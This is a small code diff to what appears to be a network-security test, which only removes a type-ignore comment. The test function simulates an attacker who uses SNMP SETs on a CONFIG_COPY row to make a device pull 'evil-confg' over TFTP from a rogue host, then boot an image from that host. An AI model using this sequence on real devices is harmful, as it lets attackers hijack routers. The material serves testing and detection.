@@ -105,7 +105,7 @@ def bw30_snmp_row_config_image(wire: Wire) -> None:
     """An SNMP row built over several SETs fetches a configuration, which fetches an image an hour later."""
     manager = snmp.Manager(wire, ATTACKER, DEVICE)
     for columns in ({14: 5}, {3: 1, 4: 3}, {2: 1, 5: IPv4Address(ROGUE)}, {6: "evil-confg"}, {14: 1}):
-        manager.set(*snmp.row(snmp.CONFIG_COPY, 9999, columns))  # type: ignore[arg-type]
+        manager.set(*snmp.row(snmp.CONFIG_COPY, 9999, columns))
     wire.wait(1)
     text = config("edge1", (f"boot system tftp://{ROGUE}/{EVIL}",))
     tftp.read(wire, DEVICE, ROGUE, "evil-confg", text, client_port=50001)
